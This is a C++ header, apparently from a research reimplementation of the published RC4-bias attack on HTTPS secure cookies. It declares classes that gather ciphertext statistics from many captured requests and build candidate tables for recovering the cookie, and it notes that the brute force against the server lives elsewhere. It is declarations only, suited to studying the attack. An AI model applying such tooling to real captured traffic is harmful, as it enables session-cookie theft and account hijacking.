// The HTTPS secure-cookie attack (Sect. 6): collect ciphertext statistics
// over many encrypted requests, build double-byte likelihoods combining
// Fluhrer–McGrew and multi-gap ABSAB estimates (Sect. 4.2/4.3), draw cookie
// candidates from Algorithm 2 restricted to the cookie character set
// (Sect. 6.2), and try each against the server.
//
// This module stops at the transition tables (CookieTransitionTables). The
// candidates and the brute force are RecoveryEngine::RecoverDouble
// (src/recovery/engine.h), which streams Algorithm 2 lazily and stops at the
// first cookie the server oracle, its verification predicate, accepts
// (docs/recovery.md).
#ifndef SRC_TLS_COOKIE_ATTACK_H_
#define SRC_TLS_COOKIE_ATTACK_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/core/candidates.h"

namespace rc4b {

// Describes what the attacker knows about the aligned requests.
struct CookieAttackLayout {
  size_t cookie_offset = 0;   // offset of the cookie value within the request
  size_t cookie_length = 16;
  size_t request_size = 492;  // plaintext bytes per request
  size_t max_gap = 128;       // largest ABSAB gap used (paper: 128)
};

// Streaming statistics over captured ciphertext requests. For each of the
// cookie_length + 1 adjacent byte pairs spanning m1 || cookie || mL it keeps
//   * Fluhrer–McGrew pair counts of the two ciphertext bytes, and
//   * an ABSAB score table over the unknown pair, already aggregated over
//     every usable (gap, direction) against the surrounding known plaintext:
//     observing ciphertext differential d against known pair (k1, k2) of gap
//     g adds AbsabLogOdds(g) at table cell d XOR (k1, k2) — an O(1) update
//     per (request, gap) instead of 2 * 129 full count tables.
class CookieCaptureStats {
 public:
  // `known_plaintext` is the full aligned request with the cookie bytes
  // ignored (they are excluded from the known-pair sets automatically). The
  // layout must satisfy 1 <= cookie_offset and cookie_offset + cookie_length
  // < request_size == |known_plaintext|; otherwise the object is disabled
  // and AddRequest rejects everything.
  CookieCaptureStats(const CookieAttackLayout& layout, Bytes known_plaintext);

  // Adds one captured request's ciphertext (request_size bytes, RC4 layer
  // only — the caller strips the TLS record header and any preceding MAC
  // bytes belong to the previous request's stride). Returns false — and
  // records nothing — if the ciphertext is shorter than request_size.
  bool AddRequest(std::span<const uint8_t> ciphertext);

  uint64_t requests() const { return requests_; }
  size_t pair_count() const { return layout_.cookie_length + 1; }

  const std::vector<uint64_t>& FmCounts(size_t pair_index) const {
    return fm_counts_[pair_index];
  }
  const std::vector<double>& AbsabScores(size_t pair_index) const {
    return absab_scores_[pair_index];
  }

  const CookieAttackLayout& layout() const { return layout_; }

 private:
  struct GapRef {
    size_t known_position;  // request offset of the known pair's first byte
    uint16_t known_pair;    // plaintext (k1 << 8) | k2
    double log_odds;        // AbsabLogOdds(gap)
  };

  CookieAttackLayout layout_;
  Bytes known_plaintext_;
  bool valid_ = false;
  uint64_t requests_ = 0;
  std::vector<std::vector<uint64_t>> fm_counts_;    // [pair][c1*256+c2]
  std::vector<std::vector<double>> absab_scores_;   // [pair][mu1*256+mu2]
  std::vector<std::vector<GapRef>> gap_refs_;       // [pair] -> usable gaps
};

// Builds Algorithm 2 transition tables: per pair, the sparse FM double-byte
// likelihood (formula 15) at the pair's keystream counter plus the
// accumulated ABSAB scores (formula 25). `keystream_alignment` is the
// 0-based keystream offset of the first cookie byte modulo 256 (so the m1
// byte ahead of it sits at 1-based PRGA position == keystream_alignment).
DoubleByteTables CookieTransitionTables(const CookieCaptureStats& stats,
                                        size_t keystream_alignment);

// The RFC 6265 cookie-value alphabet restriction the paper exploits
// (Sect. 6.2): base64-style values. Returns the 64-character set used by our
// experiments.
std::vector<uint8_t> CookieAlphabet64();

// Lower-case hexadecimal values (16 characters): session tokens emitted as
// hex digests, an even tighter Sect. 6.2 restriction.
std::vector<uint8_t> CookieAlphabetHex();

}  // namespace rc4b

#endif  // SRC_TLS_COOKIE_ATTACK_H_
